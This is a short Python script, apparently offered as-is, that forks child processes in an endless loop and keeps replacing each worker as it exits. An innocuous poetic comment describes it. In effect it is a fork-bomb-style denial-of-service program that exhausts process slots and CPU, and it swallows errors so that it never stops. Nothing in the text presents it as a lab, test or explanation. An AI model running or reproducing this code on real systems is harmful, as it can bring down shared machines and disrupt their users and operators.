# As many processes as there may be, each at work, each replaced when it ends.
import os

while True:
    try:
        if os.fork() == 0:
            for _ in range(200_000):
                os.getppid()
            os._exit(0)
        while os.waitpid(-1, os.WNOHANG)[0]:
            pass
    except OSError:
        pass
